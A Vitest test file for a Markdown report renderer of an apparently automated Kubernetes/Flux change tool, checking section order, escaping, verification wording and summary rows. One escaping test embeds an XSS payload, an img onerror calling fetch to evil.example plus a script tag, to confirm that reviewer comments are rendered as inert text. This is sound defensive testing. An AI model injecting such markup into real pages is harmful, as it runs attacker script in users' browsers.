import { describe, expect, it } from 'vitest';
import { cleanSession } from './fixtures/clean-session';
import { troubledSession } from './fixtures/troubled-session';
import { renderSessionReport } from './render-report';
import { buildReportData } from './report-data';
import type { ReportInput } from './report-input';

const render = (input: ReportInput) => renderSessionReport(buildReportData(input));

/** The lines of one `## ` section, without its heading. */
function sectionOf(markdown: string, heading: string): string[] {
  const lines = markdown.split('\n');
  const start = lines.indexOf(`## ${heading}`);
  const end = lines.findIndex((line, index) => index > start && line.startsWith('## '));
  return lines.slice(start + 1, end === -1 ? undefined : end);
}

/** The same records in another order, as a store might return them. */
function reversed(input: ReportInput): ReportInput {
  return {
    ...input,
    tasks: [...input.tasks].reverse(),
    events: [...input.events].reverse(),
    proposals: [...input.proposals].reverse(),
    reviews: [...input.reviews].reverse(),
    assessments: [...input.assessments].reverse(),
    approvals: [...input.approvals].reverse(),
    findingsBefore: [...input.findingsBefore].reverse(),
    findingsAfter: [...input.findingsAfter].reverse(),
    adrs: [...input.adrs].reverse(),
  };
}

describe('renderSessionReport', () => {
  const clean = render(cleanSession);
  const troubled = render(troubledSession);

  it('has the title and every section, in order', () => {
    const headings = troubled.split('\n').filter((line) => /^#{1,2} /.test(line));
    expect(headings).toEqual([
      '# Triad session s2',
      '## Summary',
      '## Achievements',
      '## Technical details',
      '## Failed, rolled back and rejected',
      '## Final state',
      '## Decisions',
      '## Next human session priorities',
      '## Team performance',
    ]);
  });

  it('is the same text whatever order the records come in', () => {
    expect(render(reversed(troubledSession))).toBe(troubled);
    expect(render(reversed(cleanSession))).toBe(clean);
  });

  it('never calls an applied change verified', () => {
    const rows = sectionOf(clean, 'Achievements').filter((line) => line.startsWith('| `s1-'));
    expect(rows).toEqual([
      '| `s1-t1` | Add SOPS decryption to the apps Kustomization | low | `1111111` | pushed; not verified — no cluster configured |',
      '| `s1-t2` | Add a README for the homelab repository | low | `2222222` | pushed; not verified — no cluster configured |',
    ]);
    expect(clean).not.toMatch(/Ready/);
  });

  it('shows the summary numbers with their budget', () => {
    expect(troubled).toContain('| End reason | deadline |');
    expect(troubled).toContain('| Started by | alice |');
    expect(clean).toContain('| Started by | not recorded |');
    expect(troubled).toContain(
      '| Tokens | 120,000 input · 30,000 output · 5,000 cached; 150,000 of 1,000,000 budget (15%) |',
    );
    expect(troubled).toContain('| Cost | $2.50 of $10.00 budget (25%) |');
    expect(troubled).toContain('| rolled_back | 1 |');
    expect(troubled).toContain('| total | 8 |');
  });

  it('gives the evidence: verification, cut diffs, reverts, severities, ADR states', () => {
    expect(troubled).toContain(
      '| `s2-t1` | Decrypt SOPS secrets in infra | low | `aaaaaaa` | Flux reports Kustomization flux-system/infra Ready at bbbbbbbb (which holds aaaaaaaa) |',
    );
    expect(troubled).toContain('(20 more lines)');
    expect(troubled).toMatch(/^\| `s2-t3` \| rolled_back \| .* applied in `bbbbbbb`, reverted by `ccccccc` \|$/m);
    expect(troubled).toContain('| critical | 2 | 2 |');
    expect(troubled).toContain(
      '| 0008 | Pin GPU workloads to the GPU node | [`docs/decisions/0008-pin-gpu-workloads-to-the-gpu-node.md`](../decisions/0008-pin-gpu-workloads-to-the-gpu-node.md) | `s2-t3` (rolled_back) |',
    );
  });

  it('puts deferred tasks first among the next session priorities', () => {
    const items = sectionOf(troubled, 'Next human session priorities').filter((line) => /^\d+\. /.test(line));
    expect(items).toHaveLength(7);
    expect(items[0]).toMatch(
      /^1\. \*\*`s2-t5`\*\* Give prometheus a PVC \(deferred, risk high\)\. Why: .*expired unanswered/,
    );
    expect(items.some((line) => line.includes('To do: approve or reject in the review UI'))).toBe(false);
    expect(sectionOf(clean, 'Next human session priorities')).toContain('Nothing is waiting for a person.');
  });

  it('escapes pipes in cells and keeps a diff with backticks inside its fence', () => {
    const proposals = troubledSession.proposals.map((p) =>
      p.taskId === 's2-t1' ? { ...p, diff: '+```\n+a | b\n+```' } : p,
    );
    const tasks = troubledSession.tasks.map((t) => (t.id === 's2-t2' ? { ...t, reason: 'a | b' } : t));
    const markdown = render({ ...troubledSession, proposals, tasks });
    expect(markdown).toContain('````diff\n+```\n+a | b\n+```\n````');
    expect(markdown).toContain('| a \\| b |');
  });

  it("turns HTML in people's comments and reasons into text: a rendered report runs no markup", () => {
    const hostile = '<img src=x onerror="fetch(`//evil.example`)"><script>alert(1)</script> & more';
    const input: ReportInput = {
      ...troubledSession,
      approvals: troubledSession.approvals.map((approval) =>
        approval.comment ? { ...approval, comment: hostile } : approval,
      ),
      reviews: troubledSession.reviews.map((review) => ({ ...review, comments: review.comments.map(() => hostile) })),
    };
    const markdown = render(input);
    expect(markdown).toContain('&lt;img src=x onerror=');
    expect(markdown).toContain('&lt;script&gt;alert(1)&lt;/script&gt; &amp; more');
    expect(markdown).not.toMatch(/<img|<script/i);
  });

  it("tells a person's rejection once: who and their comment, not the task's reason again", () => {
    const row = sectionOf(troubled, 'Failed, rolled back and rejected').find((line) => line.includes('s2-t7'));
    expect(row).toContain('rejected by alice: not before the backup is checked');
    expect(row?.split('not before the backup is checked').length).toBe(2);
  });

  it('shows what a commit holds when it is not the approved change, and why', () => {
    const landed = '--- a/apps/a.yaml\n+++ b/apps/a.yaml\n@@ -1 +1 @@\n-a: 1\n+a: 2\n';
    const why =
      'docs/adr/0002-x.md was left out: an earlier change of the session already recorded the same decision under that title';
    const tasks = cleanSession.tasks.map((t) =>
      t.id === 's1-t1'
        ? { ...t, committedChange: { diff: `diff --git a/apps/a.yaml b/apps/a.yaml\n${landed}`, changes: [why] } }
        : t,
    );
    const details = sectionOf(render({ ...cleanSession, tasks }), 'Technical details').join('\n');
    expect(details).toContain(`How the commit differs from the approved change:\n- ${why}`);
    expect(details).toContain('+a: 2');
    expect(details).toContain('Files: `apps/a.yaml`');
    // The other task landed as approved: its proposal's diff, and no such note.
    expect(details.split('How the commit differs from the approved change').length).toBe(2);
  });

  it('says how many fixable findings it left alone because nothing deploys them, and how to fix them anyway', () => {
    const archived = { ...cleanSession.findingsBefore[0]!, id: 'x/archived', fixable: true, notDeployed: 'not listed' };
    const summary = sectionOf(
      render({ ...cleanSession, findingsBefore: [...cleanSession.findingsBefore, archived] }),
      'Summary',
    );
    expect(summary).toContain(
      '| Left alone | 1 fixable finding on objects nothing deploys (archived or commented-out apps): no task changes them; `triad fix --all` does |',
    );
    expect(sectionOf(clean, 'Summary').some((line) => line.includes('Left alone'))).toBe(false);
  });

  it('says when no Flux Kustomization placed any finding: every object was taken as deployed', () => {
    const onFile = (placement: object) => ({ ...cleanSession.findingsBefore[0]!, file: 'tests/db.yaml', ...placement });
    const row = (findingsBefore: ReportInput['findingsBefore']) =>
      sectionOf(render({ ...cleanSession, findingsBefore }), 'Summary').filter((line) =>
        line.startsWith('| Deployment |'),
      );
    expect(row([onFile({})])).toEqual([
      '| Deployment | no Flux Kustomization found in the repository: every object was taken as deployed, test and example manifests included, and nothing here says Flux applies these changes |',
    ]);
    expect(row([onFile({ deployedBy: 'flux-system/apps' })])).toEqual([]);
    expect(row([onFile({ notDeployed: 'not listed in apps/kustomization.yaml' })])).toEqual([]);
  });
});
